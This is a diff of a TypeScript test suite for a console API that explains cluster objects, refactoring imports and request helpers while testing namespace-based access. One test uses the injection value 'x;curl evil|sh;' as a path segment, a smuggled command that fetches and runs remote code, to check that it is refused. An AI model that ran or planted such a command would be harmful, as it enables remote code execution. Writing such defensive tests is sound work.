@@ -5,18 +5,11 @@ import { createExplain } from "../../../../infra/console/sources/explain-source.
 import { siblingsOf } from "../../../../infra/operate/explain/sibling-page.ts";
 import { createMemoryStore } from "../../../../infra/queue/backends/embedded/store.ts";
 import { groupOf, MANAGEMENT } from "../../../../shared/api/kinds.ts";
-import { defineFunction } from "../../../../shared/function/define-function.ts";
-import { done } from "../../../../shared/function/result.ts";
 import { virtualClock } from "../../../support/clock.ts";
 import { serveTestConsole } from "../../../support/console.ts";
-import { allowingIn } from "../../../support/console-queue.ts";
+import { allowingIn, WIDGET_GROW } from "../../../support/console-queue.ts";
 import { rollingFacts } from "../../../support/rolling-deployment.ts";
-import { WIDGETS, Widget, widget } from "../../../support/widget.ts";
-
-const GROW = defineFunction(
-  { name: "widget-grow", summary: "Grows.", source: "own", reconciles: Widget, watches: [], owns: [] },
-  async () => ({ result: done }),
-);
+import { WIDGETS, widget } from "../../../support/widget.ts";
 
 describe("objects in the console", () => {
   it("are explained to those who see their namespace, and to no one else", async () => {
@@ -24,7 +17,7 @@ describe("objects in the console", () => {
     await using store = createMemoryStore();
     await store.put(WIDGETS, widget());
     await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
-    const functions = [GROW];
+    const functions = [WIDGET_GROW];
     const heads = async () => [];
     const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
     const serve = (...namespaces: readonly string[]) =>
@@ -36,8 +29,7 @@ describe("objects in the console", () => {
         namespaces: async () => ["default", "other"],
       });
     await using world = await serve("default");
-    const headers = await world.logIn();
-    const ask = (path: string) => world.ask(`/api/v1/objects/${path}`, { headers });
+    const ask = (path: string) => world.get(`/objects/${path}`);
     const shown = objectSchema.parse((await ask("widget/default/w")).body);
     expect(shown).toMatchObject({
       kind: "Widget",
@@ -46,8 +38,8 @@ describe("objects in the console", () => {
     expect(await ask("widget/default/gone")).toMatchObject({ status: 404 });
     expect(JSON.stringify(await ask("widget/default/gone"))).toContain("--namespace default");
     await using seesAll = await serve("all");
-    const link = `/api/v1/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
-    const refused = await seesAll.ask(link, { headers: await seesAll.logIn() });
+    const link = `/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
+    const refused = await seesAll.get(link);
     expect(refused).toMatchObject({
       status: 404,
       body: { next: expect.stringContaining("--all-namespaces") },
@@ -56,7 +48,7 @@ describe("objects in the console", () => {
     expect(await ask("nothing/default/w")).toMatchObject({ status: 404 });
     expect(await ask("widget/other/w")).toMatchObject({ status: 403 });
     await using foreign = await serve("other");
-    const answer = await foreign.ask("/api/v1/objects/widget/default/w", { headers: await foreign.logIn() });
+    const answer = await foreign.get("/objects/widget/default/w");
     expect(answer).toMatchObject({ status: 403 });
   });
 
@@ -81,8 +73,7 @@ describe("objects in the console", () => {
       reviewer,
       namespaces,
     });
-    const headers = await world.logIn();
-    const { body } = await world.ask("/api/v1/objects/machinedeployment/default/d1", { headers });
+    const { body } = await world.get("/objects/machinedeployment/default/d1");
     const { limits, rows = [], summary = [] } = objectSchema.parse(body).rollout ?? {};
     expect(limits).toBe("3 Machines, surge 1, unavailable 0: at least 3 available, at most 4");
     expect(rows.map(([step]) => step)).toEqual(["now", "1", "2", "3", "4", "5", "6"]);
@@ -102,7 +93,7 @@ describe("objects behind a tree in the console", () => {
       await store.put(WIDGETS, widget({ name, uid: `uid-${name}`, ownerReferences: [owner] }));
     }
     await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
-    const functions = [GROW];
+    const functions = [WIDGET_GROW];
     await using world = await serveTestConsole({
       functions,
       reviewer: allowingIn("default"),
